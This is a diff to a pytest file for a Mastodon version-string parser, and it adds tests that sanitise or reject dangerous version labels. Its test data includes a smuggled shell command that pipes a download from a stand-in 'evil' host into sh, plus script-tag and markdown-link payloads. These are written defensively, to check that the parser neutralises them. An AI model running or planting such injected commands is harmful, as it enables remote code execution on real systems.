@@ -1,5 +1,6 @@
 """Version strings: what is asked, what is newer, what is the same."""
 
+import re
 from itertools import pairwise
 from pathlib import Path
 
@@ -57,9 +58,51 @@ def test_list_of_real_versions_is_whole() -> None:
 def test_every_real_version_is_read(text: str) -> None:
     """What real servers report is read, on the branch that its numbers name, and asked for up to the `+`."""
     version = MastodonVersion.parse(text)
-    assert text.split("+", maxsplit=1)[0].strip() == version.asked == str(version)
-    assert text.split(".")[:2] == version.branch.split(".") == [str(part) for part in version.branch_key]
-    assert text == version.text
+    assert version.asked == text.split("+", maxsplit=1)[0].strip()
+    assert version.branch.split(".") == [str(part) for part in version.branch_key] == text.split(".")[:2]
+    assert version.text == re.sub("[ ()]+", "_", text)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("v4.5.20+meta", "4.5.20+meta"),
+        ("4.5.1; curl http://evil/x|sh #", "4.5.1_curl_http_evil_x_sh_"),
+        ("4.5.1 [click](http://evil.example)", "4.5.1_click_http_evil.example_"),
+        ("4.5.1<b>+<script>", "4.5.1_b_+_script_"),
+        ("4.5.1-" + "x" * 90 + "+" + "y" * 90, "4.5.1-" + "x" * 59 + "+" + "y" * 60),
+        ("4.5.1+\N{SNOWMAN}\x1b[31m", "4.5.1+_31m"),
+    ],
+)
+def test_labels_are_shown_safely(text: str, shown: str) -> None:
+    """An installed version may hold anything; people see only harmless characters, and at most 60 of a label."""
+    version = MastodonVersion.parse(text)
+    assert version.text == shown
+    assert str(version) == shown.partition("+")[0]
+    assert MastodonVersion.parse(version.stored) == version
+    assert MastodonVersion.parse(version.stored).asked == version.asked
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "4.5.1; curl http://evil/x|sh #",
+        "4.5.1 [click](http://evil.example)",
+        "4.5.1+<script>",
+        "4.5.1-" + "x" * 60,
+        "4.5.1+\N{SNOWMAN}",
+    ],
+)
+def test_published_version_with_other_characters_is_refused(text: str) -> None:
+    """The update server has no reason to publish such a version."""
+    with pytest.raises(InvalidVersionError, match="expected at most 60 of the characters"):
+        MastodonVersion.parse_published(text)
+
+
+@pytest.mark.parametrize("text", ["4.5.20", "v4.5.20+meta", "4.7.0-nightly.2026-07-24-security", "4.5.9-kronk_1~2"])
+def test_published_version_is_read(text: str) -> None:
+    """Labels of forks, which may run an update server of their own, are allowed."""
+    assert MastodonVersion.parse_published(text) == MastodonVersion.parse(text)
 
 
 @pytest.mark.parametrize(("older", "newer"), tuple(pairwise(ASCENDING)))
@@ -136,39 +179,37 @@ def test_spellings_of_one_version_are_equal(name: str, spellings: tuple[str, ...
 def test_what_is_asked(text: str, asked: str) -> None:
     """The update server is asked for the text before the first plus, trimmed, without a leading v."""
     version = MastodonVersion.parse(text)
-    assert (asked, asked, text.strip()) == (version.asked, str(version), version.text)
+    assert version.asked == asked
 
 
 @pytest.mark.parametrize(
     ("text", "message"),
     [
         pytest.param("4.7.0" + "0" * 196, "a version of 201 characters (at most 200)", id="201 characters"),
-        pytest.param("4.7.0\u00e4", "'4.7.0\u00e4' is not a version: only printable ASCII is allowed", id="non-ASCII"),
-        pytest.param("\u0664.7.0", "'\u0664.7.0' is not a version: only printable ASCII is allowed", id="other digits"),
-        pytest.param(
-            "4.7.0\x00", "'4.7.0' is not a version: only printable ASCII is allowed", id="a control character"
-        ),
-        pytest.param("4.7.0\n", "'4.7.0' is not a version: only printable ASCII is allowed", id="a newline at the end"),
-        pytest.param("\t4.7.0", "'4.7.0' is not a version: only printable ASCII is allowed", id="a tab"),
-        pytest.param("latest", "'latest' is not a version: it does not start with three numbers", id="a word"),
-        pytest.param("", "'' is not a version: it does not start with three numbers", id="nothing"),
-        pytest.param("+glitch", "'+glitch' is not a version: it does not start with three numbers", id="only metadata"),
-        pytest.param("4..7", "'4..7' is not a version: it does not start with three numbers", id="a number missing"),
-        pytest.param("4.7", "'4.7' is not a version: it does not start with three numbers", id="two numbers"),
-        pytest.param("vv4.7.0", "'vv4.7.0' is not a version: it does not start with three numbers", id="two v"),
-        pytest.param("-4.7.0", "'-4.7.0' is not a version: it does not start with three numbers", id="a sign"),
+        pytest.param("4.7.0\u00e4", "'4.7.0\u00e4' is not a version: expected printable ASCII", id="non-ASCII"),
+        pytest.param("\u0664.7.0", "'\u0664.7.0' is not a version: expected printable ASCII", id="other digits"),
+        pytest.param("4.7.0\x00", "'4.7.0' is not a version: expected printable ASCII", id="a control character"),
+        pytest.param("4.7.0\n", "'4.7.0' is not a version: expected printable ASCII", id="a newline at the end"),
+        pytest.param("\t4.7.0", "'4.7.0' is not a version: expected printable ASCII", id="a tab"),
+        pytest.param("latest", "'latest' is not a version: expected three numbers at the start", id="a word"),
+        pytest.param("", "'' is not a version: expected three numbers at the start", id="nothing"),
+        pytest.param("+glitch", "'+glitch' is not a version: expected three numbers at the start", id="only metadata"),
+        pytest.param("4..7", "'4..7' is not a version: expected three numbers at the start", id="a number missing"),
+        pytest.param("4.7", "'4.7' is not a version: expected three numbers at the start", id="two numbers"),
+        pytest.param("vv4.7.0", "'vv4.7.0' is not a version: expected three numbers at the start", id="two v"),
+        pytest.param("-4.7.0", "'-4.7.0' is not a version: expected three numbers at the start", id="a sign"),
     ],
 )
 def test_what_is_no_version(text: str, message: str) -> None:
     """What cannot be ordered is an error that says why, on one line."""
     with pytest.raises(InvalidVersionError) as caught:
         MastodonVersion.parse(text)
-    assert message == str(caught.value)
+    assert str(caught.value) == message
 
 
 def test_200_characters_are_read() -> None:
     """The longest version that is read has 200 characters."""
-    assert len(MastodonVersion.parse("4.7.0-" + "x" * 194).text) == 200
+    assert len(MastodonVersion.parse("4.7.0-" + "x" * 194).asked) == 200
 
 
 @pytest.mark.parametrize(
@@ -184,7 +225,7 @@ def test_pre_releases(text: str, *, expected: bool) -> None:
 def test_anything_is_a_version_or_an_error(text: str) -> None:
     """No text at all raises anything but `InvalidVersionError`."""
     version = parsed(text)
-    assert version is None or version.text == text.strip()
+    assert version is None or re.fullmatch(r"[A-Za-z0-9.+~_-]+", version.text)
 
 
 @given(versions, versions, versions)
@@ -208,7 +249,7 @@ def test_equal_versions_are_one_thing(one: MastodonVersion, two: MastodonVersion
 @given(versions)
 def test_name_and_text_read_back(version: MastodonVersion) -> None:
     """A version's canonical name, its text and what is asked all stand for the same version."""
-    assert {version} == {MastodonVersion.parse(text) for text in (version.name, version.text, version.asked)}
+    assert {version} == {MastodonVersion.parse(text) for text in (version.name, version.stored, version.asked)}
 
 
 @given(versions, st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=20))
